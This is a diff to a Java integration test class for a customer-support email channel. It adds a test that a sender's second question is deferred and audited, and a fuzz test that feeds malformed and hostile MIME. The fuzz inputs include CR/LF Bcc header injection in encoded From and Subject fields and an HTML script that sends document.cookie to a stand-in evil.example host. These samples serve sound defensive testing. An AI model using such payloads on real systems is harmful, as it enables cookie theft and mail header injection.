@@ -52,9 +52,10 @@ class EmailChannelIT {
 
     /**
      * The 30 support emails carry 15 distinct Message-IDs (the source projects reuse ids across fixtures): each
-     * distinct message is stored once; each gets exactly one threaded reply, unless the loop guard's rate limit
-     * (one automatic reply per sender and conversation per period) held it back, in which case it is stored with
-     * the reason and flagged for a human.
+     * distinct message is stored once; each gets exactly one threaded reply, unless the loop guard's rate limit held
+     * it back (a second message in the same conversation within the period), in which case it is stored with the
+     * reason and flagged for a human. The corpus holds several conversations of one sender (sony@chatwoot.com in
+     * three spellings): their replies are deferred one period (1 s here) apart, and still all arrive.
      */
     @Test
     void everyRealSupportEmailIsStoredOnceAndAnsweredAtMostOnceWithThreadedRfc3834Replies() throws Exception {
@@ -154,6 +155,113 @@ class EmailChannelIT {
         assertThat(conversations).hasSize(1);
         assertThat(column("SELECT text FROM inbox_entries WHERE channel = 'EMAIL' AND sender_id = ? ORDER BY id",
                 "dana.customer@example.org").get(1)).doesNotContain("earlier answer");
+    }
+
+    /**
+     * Case 8: one automatic reply per sender per period across conversations, without losing a question. Two new
+     * conversations of one customer arrive together: both are answered, the second reply after the first one's
+     * period (1 s here), and the deferral is audited.
+     */
+    @Test
+    void twoQuestionsOfOneSenderInsideThePeriodAreBothAnsweredTheSecondDeferredAndAudited() throws Exception {
+        String sender = "erin.twoquestions@example.org";
+        MimeMessage first = plain(sender, "Where is order 1001?", "Hello, order 1001 has not arrived. Where is it?");
+        MimeMessage second = plain(sender.toUpperCase(java.util.Locale.ROOT), "Change of address",
+                "Hello, how do I change my delivery address for future orders?");
+        deliver(first);
+        deliver(second);
+        List<String> ids = List.of(messageId(first), messageId(second));
+        await().atMost(WAIT).until(() -> replyCount(ids) == 2);
+        await().during(QUIET).atMost(QUIET.plusSeconds(10)).until(() -> replyCount(ids) == 2);
+        assertThat(count("SELECT COUNT(*) FROM audit_entries WHERE action = 'email.rate-deferred' AND subject = ?",
+                "email:" + messageId(second))).isEqualTo(1);
+        assertThat(column("SELECT no_reply_reason FROM inbox_entries WHERE channel = 'EMAIL' AND external_id IN (?, ?)",
+                ids.get(0), ids.get(1))).hasSize(2).containsOnlyNulls();
+    }
+
+    /**
+     * Case 17, email, end to end: hostile and malformed MIME derived from a real support email (truncated, broken
+     * boundary, unknown charset, broken base64 and quoted-printable, CR/LF injection in encoded From and Subject,
+     * 3,000 header fields, 60-deep nesting, HTML with script, invalid UTF-8). Each is stored once and its turn
+     * finishes (answered, or not answered with a reason; none left pending); no reply carries an injected header;
+     * an ordinary email after them is answered. The truncation point is seeded ({@code -Dit.fuzz.seed}, fixed by
+     * default, printed on failure).
+     */
+    @Test
+    void hostileMimeIsStoredOnceEachAnsweredOrFlaggedAndTheNextEmailIsStillAnswered() throws Exception {
+        long seed = Long.parseLong(System.getProperty("it.fuzz.seed", "20261202").replace("random",
+                Long.toString(System.nanoTime())));
+        java.util.Random random = new java.util.Random(seed);
+        byte[] real = Files.readAllBytes(CORPUS.resolve("support/chatwoot__chatwoot/support.eml"));
+        String head = "From: Fuzz Customer <fuzz.customer@example.org>\r\nTo: " + ItEnvironment.SUPPORT_ADDRESS
+                + "\r\nSubject: Order question\r\nMIME-Version: 1.0\r\n";
+        String text = "Content-Type: text/plain; charset=utf-8\r\n";
+        List<String> bodies = new ArrayList<>(List.of(
+                new String(real, 0, random.nextInt(real.length), java.nio.charset.StandardCharsets.ISO_8859_1),
+                head + "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b2\r\n" + text
+                        + "\r\nWhere is my order?\r\n",
+                head + "Content-Type: text/plain; charset=x-unknown-42\r\n\r\nO\u00f9 est ma commande ?\r\n",
+                head + text + "Content-Transfer-Encoding: base64\r\n\r\nV2hlcmUgaXMgbXkgb3JkZXI/!!*=\r\nQU\r\n",
+                head + text + "Content-Transfer-Encoding: quoted-printable\r\n\r\nWhere =ZZ is =C3 my order=\r\n=",
+                "From: =?utf-8?Q?Eve=0D=0ABcc:_victim@example.org?= <fuzz.eve@example.org>\r\nTo: "
+                        + ItEnvironment.SUPPORT_ADDRESS + "\r\nSubject: =?utf-8?Q?Order=0D=0ABcc:_victim@example.org?="
+                        + "\r\nMIME-Version: 1.0\r\n" + text + "\r\nWhere is my order?\r\n",
+                head + "X-Many: 1\r\n".repeat(3000) + text + "\r\nWhere is my order?\r\n",
+                head + nested(60),
+                head + "Content-Type: text/html; charset=utf-8\r\n\r\n<p>Where is my order?</p><script>"
+                        + "document.location='http://evil.example/'+document.cookie</script>"
+                        + "<img src=x onerror=alert(1)>\r\n",
+                head.replace("Order question", "Order \u00c3\u0028\u00ff") + text + "\r\nWhere \u00c3\u0028 is my"
+                        + " \u0000 order\u00ff?\r\n"));
+        List<String> ids = new ArrayList<>();
+        for (int i = 0; i < bodies.size(); i++) {
+            String id = "<it-fuzz-" + i + "-" + UUID.randomUUID() + "@it.switchboard.test>";
+            ids.add(id);
+            byte[] raw = ("Message-ID: " + id + "\r\n" + bodies.get(i))
+                    .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
+            deliver(new MimeMessage(SESSION, new java.io.ByteArrayInputStream(raw)));
+        }
+        MimeMessage after = plain("fuzz.after@example.org", "Opening hours", "When are you open on Saturdays?");
+        deliver(after);
+        String context = "seed " + seed + " (replay with -Dit.fuzz.seed=" + seed + ")";
+
+        await().atMost(WAIT).until(() -> replyCount(List.of(messageId(after))) == 1);
+        String entries = "SELECT COUNT(*) FROM inbox_entries WHERE channel = 'EMAIL' AND external_id IN ('"
+                + String.join("', '", ids) + "')";
+        await().atMost(WAIT).until(() -> count(entries + " AND status = 'DONE'") == bodies.size());
+        assertThat(count(entries)).as("each stored once, none half-done: %s", context).isEqualTo(bodies.size());
+        await().during(QUIET).atMost(QUIET.plusSeconds(10)).until(() -> count(entries) == bodies.size());
+        for (MimeMessage reply : botReplies()) {
+            if (ids.contains(inReplyTo(reply))) {
+                assertThat(reply.getHeader("Bcc")).as(context).isNull();
+                assertThat(reply.getAllRecipients()).as(context).hasSize(1);
+                assertThat(reply.getHeader("Subject")).as(context).hasSize(1);
+            }
+        }
+        assertThat(repliesTo(ids).size()).as("no message answered twice: %s", context).isEqualTo(replyCount(ids));
+    }
+
+    private static String nested(int depth) {
+        StringBuilder open = new StringBuilder();
+        for (int i = 0; i < depth; i++) {
+            open.append("Content-Type: multipart/mixed; boundary=\"n").append(i).append("\"\r\n\r\n--n").append(i)
+                    .append("\r\n");
+        }
+        open.append("Content-Type: text/plain\r\n\r\nWhere is my order?\r\n");
+        for (int i = depth - 1; i >= 0; i--) {
+            open.append("--n").append(i).append("--\r\n");
+        }
+        return open.toString();
+    }
+
+    private static MimeMessage plain(String from, String subject, String body) throws MessagingException {
+        MimeMessage m = new MimeMessage(SESSION);
+        m.setFrom(new InternetAddress(from));
+        m.setRecipients(MimeMessage.RecipientType.TO, ItEnvironment.SUPPORT_ADDRESS);
+        m.setSubject(subject);
+        m.setText(body);
+        m.saveChanges();
+        return m;
     }
 
     private static List<Path> emails(String folder) throws IOException {
